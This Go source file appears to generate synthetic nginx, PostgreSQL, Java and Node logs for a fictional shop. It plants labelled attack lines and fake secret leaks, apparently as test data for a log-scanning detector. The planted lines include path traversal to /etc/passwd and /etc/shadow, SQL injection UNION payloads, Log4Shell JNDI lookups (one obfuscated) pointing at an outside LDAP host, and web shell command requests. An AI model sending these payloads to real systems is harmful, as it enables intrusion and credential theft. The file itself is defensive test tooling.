package data

import (
	"fmt"
	"strings"
)

const (
	chrome  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
	firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"
	iphone  = "Mozilla/5.0 (iPhone; CPU iPhone OS 19_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/19.1 Mobile/15E148 Safari/604.1"
	prober  = "kube-probe/1.34"
)

// access is one line of nginx's "combined" format.
func (w *writer) access(client, user, request string, status, size int, referer, agent string) string {
	return fmt.Sprintf(`%s - %s [%s] "%s" %d %d "%s" "%s"`, client, user,
		w.now().Format("02/Jan/2006:15:04:05 -0700"), request, status, size, referer, agent)
}

// nginxError is one line of nginx's error log.
func (w *writer) nginxError(level, text string) string {
	return fmt.Sprintf(`%s [%s] %d#%d: *%d %s`, w.now().Format("2006/01/02 15:04:05"), level, 29, 29, 1000+w.IntN(90000), text)
}

func writeNginx(w *writer) {
	attack := func(event, technique, request string, status int, agent string) func() {
		return func() {
			w.attack(event, technique, "stdout", "%s", w.access(w.outside(), "-", request, status, 150+w.IntN(4000), "-", agent))
		}
	}
	planted := []func(){
		attack("nginx_traversal", "T1190", "GET /static/../../../../etc/passwd HTTP/1.1", 400, "curl/8.11.0"),
		attack("nginx_traversal", "T1190", "GET /download?file=..%2f..%2f..%2f..%2fetc%2fshadow HTTP/1.1", 404, "python-requests/2.32.3"),
		attack("nginx_sqli", "T1190", "GET /products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users-- HTTP/1.1", 200, chrome),
		attack("nginx_sqli", "T1190", "GET /item?id=7+AND+1=1+UNION+ALL+SELECT+NULL,table_name+FROM+information_schema.tables--+- HTTP/1.1", 500, firefox),
		attack("nginx_jndi", "T1190", "GET /?q=${jndi:ldap://198.51.100.23:1389/Exploit} HTTP/1.1", 200, chrome),
		attack("nginx_jndi", "T1190", "GET / HTTP/1.1", 200, "${jndi:ldap://203.0.113.77/a}"),
		attack("nginx_scanner", "T1595.002", "GET /index.php?id=1 HTTP/1.1", 404, "sqlmap/1.8.11#stable (https://sqlmap.org)"),
		attack("nginx_scanner", "T1595.002", "GET /admin/ HTTP/1.1", 404, "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)"),
		attack("nginx_webshell", "T1505.003", "POST /uploads/shell.php?cmd=id HTTP/1.1", 200, "curl/8.11.0"),
		attack("nginx_webshell", "T1505.003", "GET /wp-content/uploads/c99.php?cmd=cat+/etc/passwd HTTP/1.1", 200, chrome),
		func() {
			token := w.fromAlphabet(alphanum, 40)
			s := w.access(w.outside(), "-", "GET /callback?access_token="+token+"&state="+w.hex(8)+" HTTP/1.1", 302, 0, "-", chrome)
			w.leak("stdout", s, "url_token", token)
		},
		func() {
			pass := w.word()
			s := w.access(w.outside(), "-", "GET /login?user=jiwoo&password="+pass+" HTTP/1.1", 401, 188, "-", iphone)
			w.leak("stdout", s, "password", pass)
		},
		func() {
			mail := w.email()
			s := w.access(w.outside(), "-", "GET /newsletter/unsubscribe?mail="+mail+" HTTP/1.1", 200, 512, "-", chrome)
			w.leak("stdout", s, "email", mail)
		},
		func() {
			id := w.uuid()
			s := w.access(w.outside(), "-", "GET /orders/"+id+" HTTP/1.1", 200, 1310, "https://shop.example/orders", firefox)
			w.innocent("stdout", s, "uuid", id)
		},
		func() {
			n := w.orderNumber()
			s := w.access(w.outside(), "-", "GET /track?order="+n+" HTTP/1.1", 200, 733, "-", iphone)
			w.innocent("stdout", s, "order_number", n)
		},
	}
	spread(w, 560, func(int) {
		switch k := w.IntN(100); {
		case k < 12:
			w.out("%s", w.access(w.inside(), "-", "GET /healthz HTTP/1.1", 200, 2, "-", prober))
		case k < 88:
			path := pick(w, "/", "/products", "/products/"+fmt.Sprint(w.IntN(900)), "/cart", "/api/v1/items?page="+fmt.Sprint(w.IntN(40)),
				"/static/app."+w.hex(8)+".js", "/static/style."+w.hex(8)+".css", "/img/"+w.hex(12)+".webp", "/search?q="+pick(w, "tent", "rice+cooker", "select+committee", "union+jack", "lamp"))
			status := pick(w, 200, 200, 200, 200, 200, 304, 304, 301, 404)
			w.out("%s", w.access(w.outside(), "-", pick(w, "GET ", "GET ", "GET ", "HEAD ")+path+" HTTP/"+pick(w, "1.1", "2.0"), status, w.IntN(48000), pick(w, "-", "https://shop.example/"), pick(w, chrome, firefox, iphone)))
		case k < 96:
			w.out("%s", w.access(w.outside(), "-", "POST "+pick(w, "/api/v1/cart", "/api/v1/login", "/api/v1/orders")+" HTTP/2.0", pick(w, 200, 201, 204, 401, 422), w.IntN(900), "https://shop.example/cart", pick(w, chrome, firefox, iphone)))
		default:
			c := w.outside()
			w.line("stderr", w.nginxError("error", pick(w,
				`open() "/usr/share/nginx/html/favicon.ico" failed (2: No such file or directory), client: `+c+`, server: shop.example, request: "GET /favicon.ico HTTP/1.1", host: "shop.example"`,
				`upstream timed out (110: Connection timed out) while reading response header from upstream, client: `+c+`, server: shop.example, request: "GET /api/v1/items HTTP/1.1", upstream: "http://10.43.0.17:8080/api/v1/items", host: "shop.example"`)))
		}
	}, planted...)
}

func writePostgres(w *writer) {
	pg := func(who, level, text string) string {
		return fmt.Sprintf("%s [%d] %s%s:  %s", w.now().Format("2006-01-02 15:04:05.000 MST"), 60+w.IntN(900), who, level, text)
	}
	planted := []func(){
		func() {
			p := w.word()
			s := pg("admin@shop ", "LOG", `statement: ALTER ROLE reporting WITH LOGIN PASSWORD '`+p+`';`)
			w.leak("stderr", s, "password", p)
		},
		func() {
			p := w.word()
			s := pg("app@shop ", "LOG", `statement: CREATE SUBSCRIPTION s CONNECTION 'host=10.41.7.2 port=5432 user=repl password=`+p+` dbname=shop' PUBLICATION p;`)
			w.leak("stderr", s, "password", p)
		},
		func() {
			c := w.card()
			s := pg("app@shop ", "DETAIL", "Key (card_number)=("+c+") already exists.")
			w.leak("stderr", s, "credit_card", c)
		},
		func() {
			m := w.email()
			s := pg("app@shop ", "DETAIL", "Key (email)=("+m+") already exists.")
			w.leak("stderr", s, "email", m)
		},
		func() {
			id := w.uuid()
			w.innocent("stderr", pg("app@shop ", "DETAIL", "Key (order_id)=("+id+") is not present in table \"orders\"."), "uuid", id)
		},
	}
	spread(w, 260, func(int) {
		switch w.IntN(7) {
		case 0:
			w.line("stderr", pg("", "LOG", fmt.Sprintf("checkpoint complete: wrote %d buffers (%.1f%%); 0 WAL file(s) added, 0 removed, %d recycled; write=%.3f s, sync=%.3f s, total=%.3f s; sync files=%d, longest=0.004 s, average=0.001 s; distance=%d kB, estimate=%d kB; lsn=0/%X, redo lsn=0/%X",
				w.IntN(4000), w.Float64()*20, w.IntN(3), w.Float64()*200, w.Float64(), w.Float64()*200, w.IntN(90), w.IntN(9000), w.IntN(90000), w.Uint32(), w.Uint32())))
		case 1:
			w.line("stderr", pg("", "LOG", "checkpoint starting: time"))
		case 2:
			w.line("stderr", pg("[unknown]@[unknown] ", "LOG", fmt.Sprintf("connection received: host=%s port=%d", w.inside(), 30000+w.IntN(30000))))
		case 3:
			w.line("stderr", pg("app@shop ", "LOG", `connection authorized: user=app database=shop application_name=shop-api SSL enabled (protocol=TLSv1.3, cipher=TLS_AES_256_GCM_SHA384, bits=256)`))
		case 4:
			w.line("stderr", pg("app@shop ", "LOG", fmt.Sprintf("duration: %.3f ms  statement: SELECT id, sku, price FROM items WHERE category_id = %d ORDER BY id LIMIT 50", 200+w.Float64()*900, w.IntN(90))))
		case 5:
			w.line("stderr", pg("app@shop ", "ERROR", fmt.Sprintf(`duplicate key value violates unique constraint "orders_pkey" at character %d`, w.IntN(90)+10)))
		default:
			w.line("stderr", pg("", "LOG", fmt.Sprintf("automatic vacuum of table \"shop.public.%s\": index scans: 0", pick(w, "orders", "items", "sessions", "events"))))
		}
	}, planted...)
}

func writeJava(w *writer) {
	lb := func(level, thread, logger, text string) string {
		return fmt.Sprintf("%s %-5s [%s] %s - %s", w.now().Format("2006-01-02 15:04:05.000"), level, thread, logger, text)
	}
	thread := func() string { return fmt.Sprintf("http-nio-8080-exec-%d", 1+w.IntN(10)) }
	frames := func(frames ...string) {
		for _, f := range frames {
			w.out("\tat %s", f)
		}
	}
	servlet := []string{
		"org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:885)",
		"jakarta.servlet.http.HttpServlet.service(HttpServlet.java:658)",
		"org.apache.catalina.core.ApplicationFilterChain.doFilter(ApplicationFilterChain.java:138)",
		"java.base/java.lang.Thread.run(Thread.java:1583)",
	}
	planted := []func(){
		func() {
			w.attack("java_jndi", "T1190", "stdout", "%s", lb("INFO", thread(), "com.shop.api.SearchController", "search q=${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/aWQ=} page=1"))
		},
		func() {
			w.attack("java_jndi", "T1190", "stdout", "%s", lb("WARN", thread(), "com.shop.api.LoginController", "unknown user agent ${${lower:j}ndi:${lower:l}dap://203.0.113.77/x}"))
		},
		func() {
			w.attack("java_jndi_lookup", "T1190", "stdout", "%s", "javax.naming.CommunicationException: 198.51.100.23:1389 [Root exception is java.net.ConnectException: Connection refused]")
			frames("java.naming/com.sun.jndi.ldap.Connection.<init>(Connection.java:252)",
				"java.naming/com.sun.jndi.ldap.LdapClient.<init>(LdapClient.java:137)",
				"java.naming/javax.naming.InitialContext.lookup(InitialContext.java:409)",
				"org.apache.logging.log4j.core.net.JndiManager.lookup(JndiManager.java:172)")
		},
		func() {
			w.attack("java_deserialization", "T1190", "stdout", "%s", lb("ERROR", thread(), "com.shop.api.ImportController", "import failed: java.io.InvalidClassException: filter status: REJECTED"))
			frames("java.base/java.io.ObjectInputStream.filterCheck(ObjectInputStream.java:1420)",
				"java.base/java.io.ObjectInputStream.readObject(ObjectInputStream.java:493)",
				"org.apache.commons.collections.functors.InvokerTransformer.transform(InvokerTransformer.java:126)")
		},
		func() {
			p := w.word()
			s := "Caused by: java.sql.SQLException: Access denied for jdbc:mysql://db.shop.svc:3306/shop?user=shop&password=" + p + "&useSSL=true"
			w.leak("stdout", s, "password", p)
		},
		func() {
			c := grouped("4111111111111111", " ")
			s := lb("DEBUG", thread(), "com.shop.pay.CardService", "charging card "+c+" for order "+fmt.Sprint(10000+w.IntN(90000)))
			w.leak("stdout", s, "credit_card", c)
		},
		func() {
			t := w.jwt()
			s := lb("DEBUG", thread(), "com.shop.auth.TokenFilter", "Authorization: Bearer "+t)
			w.leak("stdout", s, "jwt", t)
		},
		func() {
			m := w.email()
			w.leak("stdout", lb("WARN", thread(), "com.shop.mail.Sender", "bounced mail to <"+m+">"), "email", m)
		},
		func() {
			id := w.hex(32)
			w.innocent("stdout", lb("INFO", thread(), "com.shop.api.Tracing", "traceId="+id+" spanId="+w.hex(16)+" sampled=true"), "trace_id", id)
		},
		func() {
			d := "sha256:" + w.hex(64)
			w.innocent("stdout", lb("INFO", "main", "com.shop.Application", "image registry.shop.example/shop/api@"+d), "digest", d)
		},
		func() {
			w.innocent("stdout", lb("INFO", "main", "com.shop.Config", "password=${DB_PASSWORD} token=<redacted> token_type=bearer prompt_tokens=12"), "placeholder", "password=${DB_PASSWORD}", "counter", "prompt_tokens=12")
		},
	}
	spread(w, 330, func(i int) {
		switch k := w.IntN(20); {
		case k == 0:
			w.out("%s", lb("ERROR", thread(), "com.shop.api.ErrorHandler", "request failed"))
			w.out("%s", pick(w, "java.lang.NullPointerException: Cannot invoke \"com.shop.model.Item.price()\" because \"item\" is null",
				"java.util.concurrent.TimeoutException: Did not observe any item or terminal signal within 2000ms"))
			frames("com.shop.cart.CartService.total(CartService.java:"+fmt.Sprint(40+w.IntN(200))+")",
				"com.shop.api.CartController.get(CartController.java:58)")
			frames(servlet...)
		case k < 5:
			w.out("%s", lb("DEBUG", "HikariPool-1 housekeeper", "com.zaxxer.hikari.pool.HikariPool", fmt.Sprintf("HikariPool-1 - Pool stats (total=10, active=%d, idle=%d, waiting=0)", w.IntN(10), w.IntN(10))))
		case k < 8:
			w.out("%s", lb("WARN", thread(), "com.shop.cart.StockClient", fmt.Sprintf("slow answer from stock-service: %d ms", 500+w.IntN(2000))))
		default:
			w.out("%s", lb("INFO", thread(), pick(w, "com.shop.api.CartController", "com.shop.api.ItemController", "com.shop.api.OrderController"),
				fmt.Sprintf("%s %s status=%d took=%dms user=%d", pick(w, "GET", "GET", "POST"), pick(w, "/cart", "/items", "/orders"), pick(w, 200, 200, 201, 404), w.IntN(400), 1000+w.IntN(9000))))
		}
	}, planted...)
}

func writeNode(w *writer) {
	pino := func(level int, msg string, rest ...string) string {
		s := fmt.Sprintf(`{"level":%d,"time":%d,"pid":17,"hostname":"checkout-6d9f7c5b8-x2k4p"`, level, w.now().UnixMilli())
		if len(rest) > 0 {
			s += "," + strings.Join(rest, ",")
		}
		return s + `,"msg":` + quote(msg) + "}"
	}
	planted := []func(){
		func() {
			p := w.password()
			w.leak("stdout", pino(20, "login attempt", `"body":{"user":"jiwoo","password":`+quote(p)+`}`), "password", p)
		},
		func() {
			c := "5555555555554444"
			w.leak("stdout", pino(20, "payment", `"payment":{"card":"`+grouped(c, "-")+`","cvc":"***"}`), "credit_card", grouped(c, "-"))
		},
		func() {
			c := "4012888888881881"
			w.leak("stdout", pino(20, "payment", `"payment":{"pan":`+c+`,"amount":19900}`), "credit_card", c)
		},
		func() {
			t := w.fromAlphabet(alphanum, 43)
			w.leak("stdout", pino(30, "request", `"req":{"method":"GET","url":"/me","headers":{"host":"shop.example","authorization":"Bearer `+t+`"}}`), "bearer", t)
		},
		func() {
			v := "s%3A" + w.fromAlphabet(alphanum, 32) + "." + w.fromAlphabet(alphanum, 43)
			w.leak("stdout", pino(30, "request", `"req":{"method":"GET","url":"/cart","headers":{"cookie":"connect.sid=`+v+`"}}`), "cookie", v)
		},
		func() {
			k := w.stripeKey()
			w.leak("stdout", pino(50, "Invalid API Key provided: "+k, `"err":{"type":"StripeAuthenticationError","code":"api_key_invalid"}`), "stripe_key", k)
		},
		func() {
			p := w.password()
			inner := `{"user":"anna","secret":{"password":` + quote(p) + `}}`
			w.leak("stdout", pino(20, "queue message", `"raw":`+quote(inner)), "password", p)
		},
		func() {
			m := w.email()
			w.leak("stdout", pino(30, "signup", `"customer":{"name":"A. Schmidt","email":"`+m+`"}`), "email", m)
		},
		func() {
			id := w.uuid()
			w.innocent("stdout", pino(30, "order placed", `"orderId":"`+id+`","epochNanos":"`+fmt.Sprint(w.now().UnixNano())+`"`), "uuid", id, "epoch_nanos", fmt.Sprint(w.now().UnixNano()))
		},
		func() {
			n := w.orderNumber()
			w.innocent("stdout", pino(30, "order number assigned", `"order":`+n), "order_number", n)
		},
		func() {
			w.innocent("stdout", pino(30, "mail sent", `"subject":"You forgot your password?","template":"password-reset"`), "words", "You forgot your password?")
		},
	}
	spread(w, 330, func(int) {
		switch w.IntN(8) {
		case 0:
			w.out("%s", pino(40, "retrying", fmt.Sprintf(`"attempt":%d,"delayMs":%d,"target":"stock-service"`, 1+w.IntN(4), 100+w.IntN(900))))
		case 1:
			w.out("%s", pino(50, "connect ECONNREFUSED 10.43.0.17:8080", `"err":{"type":"Error","message":"connect ECONNREFUSED 10.43.0.17:8080","stack":"Error: connect ECONNREFUSED 10.43.0.17:8080\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1607:16)","code":"ECONNREFUSED"}`))
		default:
			w.out("%s", pino(30, "request completed", fmt.Sprintf(`"reqId":"req-%s","req":{"method":"%s","url":"%s","remoteAddress":"%s"},"res":{"statusCode":%d},"responseTime":%.3f`,
				w.hex(6), pick(w, "GET", "GET", "POST"), pick(w, "/cart", "/checkout", "/items?limit=20"), w.inside(), pick(w, 200, 200, 200, 302, 404), w.Float64()*300)))
		}
	}, planted...)
}
